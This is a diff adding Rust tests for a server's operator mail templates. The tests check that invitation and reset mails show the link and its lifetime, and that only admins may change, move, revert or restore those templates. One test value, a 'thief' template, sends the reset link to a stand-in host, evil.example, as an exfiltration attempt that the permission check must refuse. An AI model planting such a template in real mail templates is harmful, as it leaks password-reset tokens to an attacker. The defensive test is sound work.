@@ -101,3 +101,82 @@ async fn samples_name_every_key_of_a_template() {
             .contains("/_resetpassword?code=")
     );
 }
+
+#[tokio::test]
+async fn ux21_mails_to_operators_show_the_link_how_long_it_works_and_what_to_do_otherwise() {
+    let world = World::new().await;
+    let link = "https://admin.example.com/webmin/choose-password?token=a-token_of-43-letters";
+    let data = json!({
+        "name": "carol & co", "server": "Accounts", "webmin": "https://admin.example.com/webmin", "link": link,
+        "lifetime": "LIFETIME", "invited_by": "ada",
+    });
+    for (file, ignore) in [
+        ("invitation.tpl", "ignore this mail"),
+        ("invitation.de.tpl", "ignorieren Sie diese E-Mail"),
+        ("reset.tpl", "ignore this mail: your password stays as it is"),
+        ("reset.de.tpl", "Ihr Passwort bleibt, wie es ist"),
+    ] {
+        let call = json!({"file": format!("operators/{file}"), "data": data});
+        let mail = world.ok("template.renderMail", call).await;
+        for part in ["text", "html"] {
+            let part = mail[part].as_str().unwrap();
+            for shown in [link, "LIFETIME", ignore, "Accounts"] {
+                assert!(part.contains(shown), "{file} without {shown}: {part}");
+            }
+        }
+        let html = mail["html"].as_str().unwrap();
+        assert_eq!(html.matches(&format!("href=\"{link}\"")).count(), 2, "{html}");
+        assert!(html.contains("carol &amp; co"), "{html}");
+    }
+}
+
+#[tokio::test]
+async fn ux21_only_admins_change_mails_that_carry_links_of_operators() {
+    use coronet_core::functions::{Caller, OperatorCaller, Role};
+    use std::sync::Arc;
+
+    let world = World::new().await;
+    let as_role = |role| {
+        let Caller::Operator(olga) = super::operator("Olga") else {
+            panic!("an operator");
+        };
+        Caller::Operator(Arc::new(OperatorCaller {
+            role,
+            ..(*olga).clone()
+        }))
+    };
+    let call = async |role, name: &str, parameters| {
+        let caller = as_role(role);
+        world.core.functions.call(&caller, name, parameters).await
+    };
+    let thief = "{{ name }} {{ link }} https://evil.example/?{{ link }}";
+    for path in ["reset.tpl", "_layout.html.tpl", "reset.fr.tpl"] {
+        let write = json!({"path": format!("templates/operators/{path}"), "text": thief});
+        let refused = call(Role::Editor, "resources.write", write).await.unwrap_err();
+        assert_eq!(refused.code(), coronet_core::Code::Forbidden, "{path}: {refused}");
+    }
+    let elsewhere = json!({"path": "templates/reset.tpl", "text": thief});
+    call(Role::Editor, "resources.write", elsewhere).await.unwrap();
+    let moved = json!({"path": "templates/reset.tpl", "to": "templates/operators/reset.fr.tpl"});
+    let refused = call(Role::Editor, "resources.move", moved).await.unwrap_err();
+    assert_eq!(refused.code(), coronet_core::Code::Forbidden);
+
+    let own = json!({"path": "templates/operators/reset.tpl", "text": "Hi {{ name }}: {* link *}"});
+    call(Role::Admin, "resources.write", own).await.unwrap();
+    for (name, parameters) in [
+        (
+            "resources.revert",
+            json!({"path": "templates/operators/reset.tpl"}),
+        ),
+        (
+            "resources.restore",
+            json!({"path": "templates/operators/reset.tpl", "revision": 1}),
+        ),
+    ] {
+        let refused = call(Role::Editor, name, parameters).await.unwrap_err();
+        assert_eq!(refused.code(), coronet_core::Code::Forbidden, "{name}");
+    }
+    let linkless = json!({"path": "templates/operators/reset.tpl", "text": "Hi {{ name }}"});
+    let refused = call(Role::Admin, "resources.write", linkless).await.unwrap_err();
+    assert!(refused.message().contains("{* link *}"), "{refused}");
+}
